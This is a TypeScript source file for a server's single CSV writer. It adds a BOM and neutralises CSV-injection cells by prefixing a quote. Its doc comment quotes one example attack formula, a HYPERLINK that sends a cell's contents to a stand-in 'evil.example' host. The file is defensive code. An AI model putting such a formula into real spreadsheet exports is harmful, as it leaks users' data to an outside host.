/**
 * The one CSV writer of the server: every CSV the server answers (the draw's ticket export and upload
 * result, the injury notification export) goes through `toCsv`.
 *
 * - A BOM first, so Excel reads the fadas; records end in `\n`; csv-stringify quotes a cell with a comma,
 *   a quote or a line break and doubles its quotes.
 * - CSV injection (OWASP): a spreadsheet reads a cell that starts with `=`, `+`, `-`, `@`, a tab or a
 *   carriage return as a formula, so a buyer named `=HYPERLINK("http://evil.example/?"&A1,"Click")` became
 *   a live link in the officer's export. Such a cell gets a leading `'`, which a spreadsheet reads as
 *   "text" (and hides). Only a finite JS number stays as it is (a genuine value, even when negative);
 *   every string, whatever it holds, is checked — a phone number `+353…` is written `'+353…`.
 */
import { stringify } from 'csv-stringify/sync';
import { spreadsheetText } from '../../domain/lib/spreadsheet-cell.ts';

export type CsvCell = string | number | boolean | null | undefined;

/** The cell as written: a finite number as it is, anything else as text, neutralised when a formula could start. */
export function csvCell(value: CsvCell): string | number {
  if (typeof value === 'number' && Number.isFinite(value)) return value;
  return spreadsheetText(String(value ?? ''));
}

/** A CSV file (with a BOM): the header row, then one record per row, every cell through `csvCell`. */
export function toCsv(columns: readonly string[], rows: readonly (readonly CsvCell[])[]): string {
  return stringify(
    [columns, ...rows].map((row) => row.map(csvCell)),
    { bom: true },
  );
}
